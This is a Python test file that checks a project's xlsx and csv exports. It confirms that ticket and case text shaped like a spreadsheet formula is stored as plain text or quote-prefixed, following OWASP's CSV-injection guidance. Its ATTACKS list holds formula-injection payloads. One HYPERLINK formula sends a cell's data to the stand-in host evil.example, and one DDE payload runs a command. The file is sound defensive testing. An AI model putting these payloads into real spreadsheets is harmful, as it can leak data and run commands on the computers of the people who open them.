"""Formula injection (issue #15): public 12345 text that starts like a formula is written to
every xlsx and csv export as text, never as a formula (OWASP's CSV-injection rules)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from sqlmodel import Session

from duban.exporter import cases_xlsx, tickets_xlsx
from duban.formulas import csv_field
from duban.permissions import SYSTEM
from tests.factories import make_case, make_ticket, make_unit

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", ATTACKS)
def test_ticket_text_that_looks_like_a_formula_is_exported_as_text(session: Session, text):
    make_ticket(session, "A1", content=text, address=text, raw={"备用": text})
    session.commit()
    data = tickets_xlsx(session, SYSTEM)
    assert "<f>" not in sheet_xml(data)  # no formula anywhere in the sheet
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    for column in ("内容描述", "诉求地址", "备用"):
        assert (row[column].value, row[column].data_type) == (text, "s")
        assert row[column].quotePrefix


def test_case_titles_that_look_like_formulas_are_exported_as_text(session: Session):
    unit = make_unit(session)
    make_case(session, unit, title='=HYPERLINK("http://evil.example")')
    session.commit()
    data = cases_xlsx(session, SYSTEM)
    assert "<f>" not in sheet_xml(data)


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_fields_that_look_like_formulas_get_a_leading_quote(text):
    out = io.StringIO()
    csv.writer(out).writerow([csv_field(text), csv_field("普通文本"), csv_field(3)])
    first, plain, number = next(csv.reader(io.StringIO(out.getvalue())))
    assert (first, plain, number) == ("'" + text, "普通文本", "3")
